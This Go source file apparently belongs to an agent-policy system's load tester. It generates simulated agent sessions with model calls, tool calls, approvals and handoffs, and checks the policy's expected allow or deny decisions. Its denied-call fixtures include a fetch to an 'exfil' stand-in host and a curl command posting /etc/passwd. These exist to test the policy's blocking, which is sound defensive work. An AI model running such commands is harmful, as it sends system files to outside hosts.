package loadtest

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"
	"time"

	dsession "aegis.dev/aegis/decider/session"
	"aegis.dev/aegis/schemas/envelope"
)

// Mix weighs the kinds of steps a simulated agent takes. Each step is a
// short run of events, the way agent runtimes report them:
//
//	Model       MODEL_CALL_STARTED, MODEL_CALL_FINISHED
//	Tool        TOOL_CALL_PROPOSED (allowed), TOOL_CALL_EXECUTED, TOOL_RESULT
//	Memory      MEMORY_WRITE, MEMORY_READ
//	Sanitize    SANITIZED_TEXT
//	Approval    TOOL_CALL_PROPOSED (require_approval), APPROVAL_REQUESTED,
//	            APPROVAL_DECIDED, TOOL_CALL_PROPOSED (allowed), TOOL_CALL_EXECUTED, TOOL_RESULT
//	Handoff     HANDOFF_REQUESTED, HANDOFF_COMPLETED
//	Denied      TOOL_CALL_PROPOSED that the policy must deny, TOOL_CALL_DENIED:
//	            an undeclared tool (PERMISSION_UNDECLARED), a domain outside the
//	            manifest (EGRESS_DENY) or a binary outside it (EXEC_DENY), in turn
//
// Every session starts with SANITIZED_TEXT (registering the sanitizer key
// that its results and memory reads carry, so nothing taints it) and ends
// with TERMINATION. Weights are relative; zero disables a kind.
type Mix struct {
	Model, Tool, Memory, Sanitize, Approval, Handoff, Denied int
}

// DefaultMix is a tool-heavy agent with one proposal in eight denied.
var DefaultMix = Mix{Model: 6, Tool: 6, Memory: 2, Sanitize: 1, Approval: 1, Handoff: 1, Denied: 1}

// ParseMix reads "model=6,tool=6,memory=2,sanitize=1,approval=1,handoff=1,denied=1";
// kinds not named keep DefaultMix's weight.
func ParseMix(s string) (Mix, error) {
	m := DefaultMix
	if strings.TrimSpace(s) == "" {
		return m, nil
	}
	fields := map[string]*int{"model": &m.Model, "tool": &m.Tool, "memory": &m.Memory, "sanitize": &m.Sanitize,
		"approval": &m.Approval, "handoff": &m.Handoff, "denied": &m.Denied}
	for _, kv := range strings.Split(s, ",") {
		k, v, ok := strings.Cut(strings.TrimSpace(kv), "=")
		p, known := fields[k]
		n, err := strconv.Atoi(v)
		if !ok || !known || err != nil || n < 0 {
			return m, fmt.Errorf("loadtest: mix: bad entry %q (want kind=weight, kinds model, tool, memory, sanitize, approval, handoff, denied)", kv)
		}
		*p = n
	}
	if m.total() == 0 {
		return m, fmt.Errorf("loadtest: mix: every weight is zero")
	}
	return m, nil
}

func (m Mix) total() int {
	return m.Model + m.Tool + m.Memory + m.Sanitize + m.Approval + m.Handoff + m.Denied
}

// Manifest is the capability manifest simulated sessions run under: the
// example "code-agent" of tenant "default" in deploy/manifests. The expected
// decisions of the mix are derived from its permissions.
const (
	Tenant   = "default"
	Manifest = "code-agent"
	// sessionEvents is the approximate length of one simulated session,
	// well inside code-agent's budgets (80 steps, 60 tool calls).
	sessionEvents = 40
	// maxSessionEvents bounds a script's length: it adds steps until it
	// holds sessionEvents, a step adds at most 6, and TERMINATION ends it.
	maxSessionEvents = sessionEvents + 5 + 1
	// WallTimeBudget is code-agent's max_wall_time_ms: no session may
	// last that long, or its later proposals are BUDGET_EXCEEDED instead
	// of the decisions the mix expects.
	WallTimeBudget = 15 * time.Minute
)

// event is one scheduled event of a session and, for a proposal, the
// decision the pipeline must reach.
type event struct {
	typ     envelope.Type
	payload string
	want    string // "outcome/REASON" for proposals, "" otherwise
}

// script generates the events of one session from its seed: the same seed
// gives the same session.
func script(m Mix, seed uint64, sid string) []event {
	r := rand.New(rand.NewPCG(seed, 0x5eed))
	evs := []event{{typ: envelope.SanitizedText, payload: `{"key":"k0"}`}}
	var tools []string // proposal tool names, as the loop detector sees them
	call := 0
	next := func() string { call++; return fmt.Sprintf("c%d", call) }
	total := m.total()
	denyKind := r.IntN(3)
	for len(evs) < sessionEvents {
		pick := r.IntN(total)
		kind := 0
		for i, w := range []int{m.Model, m.Tool, m.Memory, m.Sanitize, m.Approval, m.Handoff, m.Denied} {
			if pick < w {
				kind = i
				break
			}
			pick -= w
		}
		switch kind {
		case 0:
			id := next()
			evs = append(evs,
				event{typ: envelope.ModelCallStarted, payload: fmt.Sprintf(`{"model":"gpt-sim","call_id":%q}`, id)},
				event{typ: envelope.ModelCallFinished, payload: fmt.Sprintf(`{"model":"gpt-sim","call_id":%q,"tokens":%d}`, id, 200+r.IntN(2000))})
		case 1:
			tool, args := allowedCall(r, sid, call)
			if repeats(tools, tool) {
				continue
			}
			tools = append(tools, tool)
			id := next()
			evs = append(evs,
				event{typ: envelope.ToolCallProposed, payload: fmt.Sprintf(`{"tool_name":%q,"call_id":%q,"args":%s}`, tool, id, args), want: "allow/OK"},
				event{typ: envelope.ToolCallExecuted, payload: fmt.Sprintf(`{"tool_name":%q,"call_id":%q}`, tool, id)},
				event{typ: envelope.ToolResult, payload: fmt.Sprintf(`{"tool_name":%q,"call_id":%q,"is_error":false,"output_bytes":%d,"sanitizer_key":"k0"}`, tool, id, r.IntN(65536))})
		case 2:
			key := fmt.Sprintf("notes/%d", call)
			evs = append(evs,
				event{typ: envelope.MemoryWrite, payload: fmt.Sprintf(`{"key":%q,"bytes":%d}`, key, r.IntN(4096))},
				event{typ: envelope.MemoryRead, payload: fmt.Sprintf(`{"key":%q,"sanitizer_key":"k0"}`, key)})
		case 3:
			evs = append(evs, event{typ: envelope.SanitizedText, payload: fmt.Sprintf(`{"key":"k%d","chars":%d}`, call+1, r.IntN(8192))})
		case 4:
			if repeats(tools, "git_push") || repeats(append(tools, "git_push"), "git_push") {
				continue
			}
			tools = append(tools, "git_push", "git_push")
			id := next()
			args := fmt.Sprintf(`{"remote":"https://github.com/aegis/sim.git","branch":"feature/%s-%s"}`, sid, id)
			p := fmt.Sprintf(`{"tool_name":"git_push","call_id":%q,"args":%s}`, id, args)
			// The decision names the exact call it approves, as a
			// gateway's does (a grant covers nothing less).
			digest, err := dsession.CallDigest("git_push", json.RawMessage(args))
			if err != nil {
				panic("loadtest: the mix's call digest: " + err.Error()) // the mix's own args are valid JSON
			}
			evs = append(evs,
				event{typ: envelope.ToolCallProposed, payload: p, want: "require_approval/APPROVAL_REQUIRED"},
				event{typ: envelope.ApprovalRequested, payload: fmt.Sprintf(`{"call_id":%q,"tool_name":"git_push"}`, id)},
				event{typ: envelope.ApprovalDecided, payload: fmt.Sprintf(`{"call_id":%q,"decision":"allow","approver":"ops-sim","reason":"load test","tool_name":"git_push","args_digest":%q}`, id, digest)},
				event{typ: envelope.ToolCallProposed, payload: p, want: "allow/OK"},
				event{typ: envelope.ToolCallExecuted, payload: fmt.Sprintf(`{"tool_name":"git_push","call_id":%q}`, id)},
				event{typ: envelope.ToolResult, payload: fmt.Sprintf(`{"tool_name":"git_push","call_id":%q,"is_error":false,"output_bytes":120,"sanitizer_key":"k0"}`, id)})
		case 5:
			evs = append(evs,
				event{typ: envelope.HandoffRequested, payload: `{"from_agent":"planner","to_agent":"coder"}`},
				event{typ: envelope.HandoffCompleted, payload: `{"from_agent":"planner","to_agent":"coder"}`})
		case 6:
			tool, args, reason := deniedCall(denyKind, sid, call)
			if repeats(tools, tool) {
				continue
			}
			denyKind++
			tools = append(tools, tool)
			id := next()
			evs = append(evs,
				event{typ: envelope.ToolCallProposed, payload: fmt.Sprintf(`{"tool_name":%q,"call_id":%q,"args":%s}`, tool, id, args), want: "deny/" + reason},
				event{typ: envelope.ToolCallDenied, payload: fmt.Sprintf(`{"tool_name":%q,"call_id":%q,"reason":%q}`, tool, id, reason)})
		}
	}
	return append(evs, event{typ: envelope.Termination, payload: `{"reason":"done"}`})
}

// allowedCall returns a call code-agent's manifest allows; the arguments
// are unique per session and call so the identical-call detector stays
// quiet.
func allowedCall(r *rand.Rand, sid string, n int) (tool, args string) {
	switch r.IntN(3) {
	case 0:
		return "read_file", fmt.Sprintf(`{"path":"src/%s/file%d.go"}`, sid, n)
	case 1:
		return "web_fetch", fmt.Sprintf(`{"url":"https://api.github.com/repos/aegis/%s/issues/%d"}`, sid, n)
	default:
		return "exec", fmt.Sprintf(`{"bin":"git","argv":["log","-n","%d"],"cwd":"/work/%s"}`, n+1, sid)
	}
}

// deniedCall returns, in turn, a call code-agent's manifest denies for
// each of three reasons.
func deniedCall(kind int, sid string, n int) (tool, args, reason string) {
	switch kind % 3 {
	case 0:
		return "send_email", fmt.Sprintf(`{"to":"someone@example.org","subject":"%s %d"}`, sid, n), "PERMISSION_UNDECLARED"
	case 1:
		return "web_fetch", fmt.Sprintf(`{"url":"https://exfil.example.net/%s/%d"}`, sid, n), "EGRESS_DENY"
	default:
		return "exec", fmt.Sprintf(`{"bin":"curl","argv":["-d","@/etc/passwd","%d"]}`, n), "EXEC_DENY"
	}
}

// repeats reports whether proposing tool after tools would complete two
// back-to-back runs of the same tool sequence of length 3 to 7, which the
// policy's loop detector denies (docs/decisions.md, "Repeated sequence").
func repeats(tools []string, tool string) bool {
	s := append(append([]string(nil), tools...), tool)
	n := len(s)
	for l := 3; l <= 7 && 2*l <= n; l++ {
		same := true
		for i := 0; i < l; i++ {
			if s[n-2*l+i] != s[n-l+i] {
				same = false
				break
			}
		}
		if same {
			return true
		}
	}
	return false
}
